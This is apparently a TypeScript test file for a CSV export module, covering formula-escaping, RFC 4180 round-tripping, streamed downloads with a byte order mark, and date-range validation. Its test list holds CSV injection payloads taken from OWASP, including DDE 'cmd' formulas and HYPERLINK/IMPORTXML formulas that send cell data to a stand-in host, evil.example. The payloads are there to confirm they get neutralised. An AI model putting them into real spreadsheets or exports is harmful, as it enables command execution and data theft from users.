import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvAnswer, csvLine } from './csv.ts';
import { areDays, dayRange } from './days.ts';

/** From OWASP's page on CSV injection and what spreadsheets are known to run. */
const formulas = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '+1+1',
  '-1+1',
  '-5',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

/** A reader by the book (RFC 4180), so that the writer is not its own judge. */
function read(line: string): string[] {
  const cells: string[] = [];
  let rest = line.slice(0, line.indexOf('\r\n', line.lastIndexOf('"')));
  for (;;) {
    const [whole, quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^",]*))(?:,|$)/.exec(rest)!;
    cells.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'));
    if (whole.length === rest.length && !whole.endsWith(',')) return cells;
    rest = rest.slice(whole.length);
  }
}

test('no text begins a cell as a formula, and every text can be read back', () => {
  for (const formula of formulas) {
    const [cell, next] = read(csvLine([formula, 'next']));
    assert.deepEqual([cell, next], [`'${formula}`, 'next']);
  }
  for (const plain of ['a, b', 'say "hi"', 'two\r\nlines', 'a=b', 'x-1', 'Иван', '', '5'])
    assert.deepEqual(read(csvLine([plain, 'next'])), [plain, 'next']);
});

test('numbers stay numbers, negative ones too, and nothing stays nothing', () => {
  assert.equal(csvLine([-5, 0, 1_000_000, null, 'x']), '-5,0,1000000,,"x"\r\n');
});

test('a download begins with the byte order mark and is read only as fast as it is taken', async () => {
  let made = 0;
  async function* lines() {
    for (; made < 10_000; made++) yield csvLine(['x'.repeat(10_000)]);
  }
  const { headers, body } = csvAnswer('a.csv', lines());
  assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.equal(headers.get('content-disposition'), 'attachment; filename="a.csv"');
  const reader = body!.getReader();
  const { value } = await reader.read();
  assert.deepEqual(Buffer.from(value as Uint8Array).subarray(0, 3), Buffer.from([0xef, 0xbb, 0xbf]));
  await new Promise((resolve) => setImmediate(resolve));
  assert.ok(made < 100, `${made} lines were made for one that was read`);
  await reader.cancel();
});

test('days are whole, in UTC, both included, and only real ones', () => {
  const start = Date.UTC(2026, 1, 28);
  assert.deepEqual(dayRange({ from: '2026-02-28', to: '2026-02-28' }), { from: start, until: start + 86_400_000 });
  assert.deepEqual(dayRange({ from: '', to: '' }), {});
  assert.ok(areDays({ from: '', to: '2026-02-28' }));
  for (const days of [
    { from: '2026-02-30', to: '' },
    { from: '', to: 'tomorrow' },
    { from: '2026-03-02', to: '2026-03-01' },
  ])
    assert.equal(areDays(days), false);
});
